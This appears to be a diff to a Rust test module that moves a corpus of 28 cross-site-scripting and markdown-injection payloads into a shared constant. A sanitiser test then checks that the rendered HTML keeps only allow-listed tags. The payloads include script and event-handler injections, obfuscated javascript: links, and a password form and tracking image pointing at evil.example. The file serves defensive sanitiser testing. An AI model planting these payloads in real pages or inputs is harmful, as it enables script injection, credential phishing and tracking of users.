@@ -92,38 +92,40 @@ mod tests {
         }
     }
 
+    /// What people type who want more than to be read.
+    const CORPUS: [&str; 28] = [
+        "<ScRiPt>alert(1)</sCrIpT>",
+        "<<script>alert(1)//<</script>",
+        "<svg><script>alert(1)</script></svg>",
+        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
+        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+        "<details open ontoggle=alert(1)>",
+        "<a href=\"javascript:alert(1)\">点</a>",
+        "<style>@import 'https://evil.example/x.css';</style>",
+        "<form action=https://evil.example><input name=password></form>",
+        "<p style=\"position:fixed;inset:0\">盖住</p>",
+        "[点](JaVaScRiPt:alert(1))",
+        "[点](java&#10;script:alert(1))",
+        "[点](&#x6A;avascript:alert(1))",
+        "[点](data:text/html;base64,PHNjcmlwdD4=)",
+        "[点](vbscript:msgbox(1))",
+        "[点](//evil.example\" onmouseover=\"alert(1))",
+        "[点](https://a.example \"题\\\" onclick=alert(1) x=\\\"\")",
+        "![x](javascript:alert(1))",
+        "![x](https://evil.example/track.gif)",
+        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
+        "`<img src=x onerror=alert(1)>`",
+        "```<script>\n<script>alert(1)</script>\n```",
+        "| <script>a</script> | b |\n|---|---|\n| <img src=x onerror=1> | c |",
+        "[ref]: javascript:alert(1)\n[点][ref]",
+        "<javascript:alert(1)>",
+        "</div></main><h1>假公告</h1>",
+        "# <b onclick=alert(1)>题</b>",
+    ];
+
     #[test]
     fn nothing_that_people_type_becomes_active() {
-        let corpus = [
-            "<ScRiPt>alert(1)</sCrIpT>",
-            "<<script>alert(1)//<</script>",
-            "<svg><script>alert(1)</script></svg>",
-            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-            "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
-            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-            "<details open ontoggle=alert(1)>",
-            "<a href=\"javascript:alert(1)\">点</a>",
-            "<style>@import 'https://evil.example/x.css';</style>",
-            "<form action=https://evil.example><input name=password></form>",
-            "<p style=\"position:fixed;inset:0\">盖住</p>",
-            "[点](JaVaScRiPt:alert(1))",
-            "[点](java&#10;script:alert(1))",
-            "[点](&#x6A;avascript:alert(1))",
-            "[点](data:text/html;base64,PHNjcmlwdD4=)",
-            "[点](vbscript:msgbox(1))",
-            "[点](//evil.example\" onmouseover=\"alert(1))",
-            "[点](https://a.example \"题\\\" onclick=alert(1) x=\\\"\")",
-            "![x](javascript:alert(1))",
-            "![x](https://evil.example/track.gif)",
-            "<img src=x:alert(alt) onerror=eval(src) alt=0>",
-            "`<img src=x onerror=alert(1)>`",
-            "```<script>\n<script>alert(1)</script>\n```",
-            "| <script>a</script> | b |\n|---|---|\n| <img src=x onerror=1> | c |",
-            "[ref]: javascript:alert(1)\n[点][ref]",
-            "<javascript:alert(1)>",
-            "</div></main><h1>假公告</h1>",
-            "# <b onclick=alert(1)>题</b>",
-        ];
         let allowed = [
             "p",
             "br",
@@ -149,7 +151,7 @@ mod tests {
             "th",
             "td",
         ];
-        for text in corpus {
+        for text in CORPUS {
             let html = markdown(text);
             // Every tag that is left is one of ours, with no attribute but these.
             for tag in html.split('<').skip(1) {
